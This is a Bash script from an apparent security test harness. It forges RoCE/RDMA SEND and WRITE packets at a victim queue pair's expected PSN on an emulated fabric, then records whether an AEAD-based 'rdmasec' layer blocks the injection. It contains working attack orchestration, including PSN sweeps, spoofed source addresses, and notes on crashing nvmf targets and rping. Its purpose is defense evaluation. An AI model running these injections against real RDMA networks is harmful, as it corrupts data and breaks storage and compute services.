# SPDX-License-Identifier: MIT
# A1 (inject): the attacker on host 3 reads one request's BTH off the bridge,
# then forges SEND Only packets carrying its own bytes, from the client's
# address, at the PSN the server expects next (a forward sweep for streaming
# victims, whose PSN moves on while the attacker works). rxe accepts a packet
# whose PSN matches; what the victim does with the bytes is the outcome.
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"

CELL_INJECT_TEXT=INJECTED-BY-ATTACKER
# rdmasec frame header (seq 1, 16 bytes, FIRST|LAST), forged body and tag:
# well-formed, so only the AEAD can tell it from a real message.
CELL_INJECT_FRAME=0000000000000001000000100000030041545441434b45522d4259544553212121$(printf '%030x' 0)

# Streaming victims print nothing of what they receive. rxe's own state
# shows acceptance: a server QP that expects a PSN its peer never sent has
# taken that many forged requests (the peer's own later ones are discarded
# as duplicates, the silent desynchronisation the papers describe).
_cell_psn_gap() {
	local q=$((WIRE_QPN)) srv cli rq rqpn sq gap
	srv=$(grep -m1 "^link $VICTIM_DST_DEV/1 lqpn $q " "$CELL/qps.txt") || { echo "no target QP $WIRE_QPN"; return 1; }
	rq=$(sed -n 's/.* rq-psn \([0-9]*\).*/\1/p' <<<"$srv") rqpn=$(sed -n 's/.* rqpn \([0-9]*\).*/\1/p' <<<"$srv")
	cli=$(grep -m1 "^link $VICTIM_SRC_DEV/1 lqpn $rqpn " "$CELL/qps.txt") || { echo "no peer QP $rqpn"; return 1; }
	sq=$(sed -n 's/.* sq-psn \([0-9]*\).*/\1/p' <<<"$cli")
	# ib_write_bw's server never sends a request: its next PSN is still the one it told.
	[ "$VICTIM" = write_bw ] && sq=$((EXCH_PSN))
	[ -n "$rq" ] && [ -n "$sq" ] || { echo "no PSNs in rdma res"; return 1; }
	gap=$(((rq - sq) & 0xffffff))
	[ $gap -ge $((1 << 23)) ] && gap=$((gap - (1 << 24)))
	if [ $gap -le 0 ]; then echo "target rq-psn $rq, peer sq-psn $sq"; return 1; fi
	printf 'rdma res: %s QP %s expects PSN %d, its peer sends %d: %d forged %s (%s) accepted' \
		"$VICTIM_DST_DEV" "$WIRE_QPN" "$rq" "$sq" "$gap" "$([ "$VICTIM" = write_bw ] && echo "RDMA WRITE" || echo SENDs)" \
		"$CELL_INJECT_TEXT"
}

# rping: one forged SEND at the PSN its server expects ends it (its receive
# buffer holds the 16-byte buffer advertisement; 20 forged bytes fail the
# receive), and its PSN moves on by tens to hundreds a second. A long sweep
# has one chance only: once the packet carrying the expected PSN is lost (the
# first packets of a burst wait for ARP, a burst overruns the guest's
# backlog), the rest run ahead of the QP and are all discarded as out of
# sequence. A fast rping once missed two rounds in a row (perhaps the SEND
# found the server's one receive not yet reposted: rxe answers RNR and drops
# it, and the rest of the round is out of sequence). So: rounds of 2000 PSNs
# from a request captured just before, until the server's QP fails, shows
# the PSN gap, or 10 rounds (at most 30 s) went by. Sets gap and sweep (what
# was sent); returns 1 if no round was sent.
_cell_inject_rounds() {
	local r sent=0 t0=$SECONDS
	for r in 1 2 3 4 5 6 7 8 9 10; do
		[ $((SECONDS - t0)) -lt 30 ] && kill -0 "$VICTIM_SERVER_PID" 2>/dev/null || break
		victim_wire_bth --now || break
		echo "inject round $r: psn $WIRE_PSN at $SECONDS s, $(grep -c 'ping data' "$VICTIM_CLIENT_LOG") pings" >&2
		fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
			--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):2000" --iface fab3 --sport 4242 "${data[@]}" \
			--json >"$CELL/attack.json" 2>>"$CELL/attack.err" && sent=$((sent + 1))
		sleep 0.5
		cell_victim_error_line dst >/dev/null && break
		cell_qp_snapshot
		gap=$(_cell_psn_gap) && break
		gap=''
	done
	sweep="$sent round(s) of 2000 PSNs from the one then seen"
	[ $sent -gt 0 ]
}

# nvmf: forged SEND Only packets (20 bytes) from the PSN after a command
# capsule captured just before, to that I/O queue's QP of the target: the
# one at the expected PSN is a capsule shorter than the 64-byte submission
# entry, and the target declares its controller fatally broken (the other
# developer's capsule forger makes it a real command). The sweep (about 7000
# packets/s) overtakes fio's capsules (about 60 writes/s, 5 PSNs each).
_cell_inject_nvmf() {
	fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
		--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):40000" --iface fab3 --sport 4242 "${data[@]}" \
		--json >"$CELL/attack.json" 2>"$CELL/attack.err" &
	cell_nvmf_watch $! 40
	echo "inject exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
	cell_nvmf_verdict inject "20-byte SENDs from PSN $((WIRE_PSN + 1)) at QP $WIRE_QPN"
}

# The hit checks polled by the rounds (cells/common.bash): each prints its
# evidence and returns 0 once the forged packets show.
_cell_inject_naive_hit() {
	local l
	l=$(victim_grep "$VICTIM_SERVER_LOG" "$CELL_INJECT_TEXT") && printf '[h1] %s' "$l"
}

# A stream's QP shows a PSN gap (its own error line if it is gone meanwhile).
_cell_inject_stream_hit() {
	local g l
	cell_qp_snapshot
	g=$(_cell_psn_gap) && { printf '%s' "$g"; return 0; }
	l=$(cell_victim_error_line dst) && { printf '%s (after forged SENDs at its PSN)' "$l"; return 0; }
	printf '%s' "$g"
	return 1
}

# mpi-verbs: a PSN gap, or the job broke (ofi_rxm parses the forged bytes as its own header).
_cell_inject_mpi_hit() {
	cell_mpi_verbs_hit _cell_inject_stream_hit "forged SENDs at its PSN"
}

cell_inject() {
	local v=$1 line data=(--data "$CELL_INJECT_TEXT") sweep ap gap note=''
	# A sweep overtakes a stream only if it is faster: on the emulated fabric
	# it sends about 7000 packets/s, full-rate ib_send_bw about 9000 (and its
	# client posts no receives, so its idle direction takes no SEND).
	if [ "$v" = send_bw ]; then VICTIM_SEND_BW_RATE=2000 note='(client at 2000 msg/s) '; export VICTIM_SEND_BW_RATE; fi
	# rping: only the attack or the cell ends it (a server stopped by its
	# timeout would end the client the way a broken one does), after a slow
	# start-up and 30 s of rounds. ucmatose: still there when a slow start-up
	# is over.
	case "$v" in rping) VICTIM_SECONDS=70 ;; ucmatose) VICTIM_SECONDS=40 ;; nvmf) VICTIM_SECONDS=60 ;; esac
	# naive, rdmasec and the streams: the attack retries until judged, the victim lives on until then.
	case "$v" in naive | rdmasec | pingpong | send_bw | mpi-*) cell_victim_for_the_cell ;; esac
	[ "$v" = ucmatose ] && cell_cm_capture_start
	cell_victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
	cell_cm_stop
	# rping: the rounds below capture their own.
	case "$v" in
	naive | rdmasec | rping) victim_wire_bth ;;
	# ucmatose's bulk stream outruns a sweep, and it stalls and resends
	# unpredictably; its server's QP sits still at the PSN the rdma_cm REP
	# told (its client sends nothing until it replies): one exact SEND.
	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$((CM_REP_PSN - 1)) ;;
	# ib_write_bw's client QP waits at the PSN the exchange told: one exact WRITE into its buffer.
	write_bw) victim_exchange && [ -n "$EXCH_RKEY" ] && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
	# Their rounds capture their own.
	pingpong | send_bw | mpi-*) true ;;
	*) victim_wire_bth --now ;;
	esac || { matrix_result inject "$v" error "" "no RoCE request seen on the wire"; victim_stop; return; }
	# MPI: rounds of 20000 PSNs, each from a request seen then (fi_mpi's stream moves on by about 100 a second).
	case "$v" in
	mpi-verbs)
		cell_stream_rounds _cell_inject_mpi_hit inject 20000 "${data[@]}"
		cell_mpi_verdict inject "" ""
		return
		;;
	mpi-rdmasec)
		# shellcheck disable=SC2034 # read by cell_mpi_audit_hit
		CELL_MPI_EVENTS='mac_failure|seq_violation|protocol_violation|qp_error'
		cell_stream_rounds cell_mpi_audit_hit inject 20000 --data-hex "$CELL_INJECT_FRAME"
		cell_mpi_verdict inject 'mac_failure|seq_violation|protocol_violation' \
			"per-message AEAD (AES-256-GCM, sequence in nonce) rejected the forged frame; the provider's connection rebuilt its data path over TLS (new QP, PSNs, keys); the MPI job went on, every message checked"
		return
		;;
	esac
	case "$v" in
	naive | ucmatose) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 ;;
	write_bw) sweep=$EXCH_PSN:1 data+=(--op write --rkey "$EXCH_RKEY" --va "$EXCH_VA") ;;
	rdmasec) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 data=(--data-hex "$CELL_INJECT_FRAME") ;;
	*) sweep=$(((WIRE_PSN + 1) & 0xffffff)):200000 ;;
	esac
	if [ "$v" = nvmf ]; then
		_cell_inject_nvmf
		return
	fi
	if [ "$v" = rping ]; then
		gap=''
		_cell_inject_rounds
		echo "inject exit $? (qpn $WIRE_QPN, $sweep)" >&2
		victim_attack_done
		[ -n "$gap" ] || cell_qp_snapshot
		victim_wait 12
		if line=$(cell_victim_error_line dst); then
			# rping reads its peer's buffer address from each SEND: forged bytes break it.
			matrix_result inject "$v" succeeded "" "$line (after forged SENDs at its PSN)"
		elif [ -n "$gap" ] || gap=$(_cell_psn_gap); then
			matrix_result inject "$v" succeeded "" "$gap"
		else
			matrix_result inject "$v" error "" "missed: $sweep, no forged SEND seen accepted; server rc $VICTIM_SERVER_RC: $(tail -n 1 "$VICTIM_SERVER_LOG")"
		fi
		return
	fi
	case "$v" in
	naive) cell_exact_rounds _cell_inject_naive_hit inject "${data[@]}" ;;
	rdmasec) cell_exact_rounds cell_rdmasec_hit inject "${data[@]}" ;;
	# pingpong, send_bw: rounds of 20000 PSNs (about 3 s idle), each from a request seen then.
	pingpong | send_bw) cell_stream_rounds _cell_inject_stream_hit inject 20000 "${data[@]}" ;;
	*)
		fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
			--psn-sweep "$sweep" --iface fab3 --sport 4242 "${data[@]}" --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
		ap=$!
		# Look at the QPs while the sweep runs; the first snapshot with a PSN gap is the proof.
		gap=''
		for _ in $(seq 1 24); do
			kill -0 $ap 2>/dev/null || break
			sleep 0.5
			cell_qp_snapshot
			gap=$(_cell_psn_gap) && break
			gap=''
		done
		kill $ap 2>/dev/null
		wait $ap
		;;
	esac
	echo "inject exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
	victim_attack_done
	case "$v" in
	naive | pingpong | send_bw) victim_stop ;;
	rdmasec) cell_rdmasec_end ;;
	*)
		[ -n "$gap" ] || cell_qp_snapshot
		victim_wait 12
		;;
	esac
	case "$v" in
	naive)
		if [ -n "$CELL_EVIDENCE" ] || CELL_EVIDENCE=$(_cell_inject_naive_hit); then
			matrix_result inject "$v" succeeded "" "$CELL_EVIDENCE"
		else
			matrix_result inject "$v" error "" "the forged SEND did not show ($CELL_SENT sent in the cell's budget): $(tail -n 1 "$VICTIM_SERVER_LOG")"
		fi
		;;
	rdmasec)
		# Forged bytes that reached the application decide, whatever else the logs say.
		if grep -q ATTACKER "$VICTIM_CLIENT_LOG" "$VICTIM_SERVER_LOG"; then
			matrix_result inject "$v" succeeded "" "$(victim_grep "$VICTIM_CLIENT_LOG" ATTACKER)"
		elif line=$(cell_rdmasec_rebuilt mac_failures); then
			matrix_result inject "$v" blocked \
				"per-message AEAD (AES-256-GCM, sequence in nonce) rejected the forged frame; the data path was rebuilt over TLS (new QP, PSNs, keys); the stream went on" \
				"$line"
		# Rebuilding off (or out of its budget): the connection closes on the fault.
		elif line=$(cell_rdmasec_closed_line) && grep -q 'message authentication failed' <<<"$line"; then
			matrix_result inject "$v" detected \
				"per-message AEAD (AES-256-GCM, sequence in nonce): forged frame rejected, counted, connection closed" "$line"
		else
			matrix_result inject "$v" error "" "neither healed nor closed on the fault ($CELL_SENT forged sent): $(cell_rdmasec_undecided)"
		fi
		;;
	pingpong | send_bw)
		if [ -n "$CELL_HIT" ]; then
			matrix_result inject "$v" succeeded "" "$note$CELL_EVIDENCE"
		else
			matrix_result inject "$v" error "" "missed: $CELL_ROUNDS in the cell's budget, no forged SEND seen accepted (last look: $CELL_EVIDENCE)"
		fi
		;;
	*)
		if [ -n "$gap" ] || gap=$(_cell_psn_gap); then
			matrix_result inject "$v" succeeded "" "$note$gap"
		# A victim a forged SEND broke can be gone before rxe's state was read (seen in CI): its own error shows it.
		elif line=$(cell_victim_error_line dst); then
			matrix_result inject "$v" succeeded "" "$note$line (after forged SENDs at its PSN)"
		else
			matrix_result inject "$v" error "" "missed: no forged SEND seen accepted while the sweep ran (the bursting PSN was stepped over; $(_cell_psn_gap))"
		fi
		;;
	esac
}
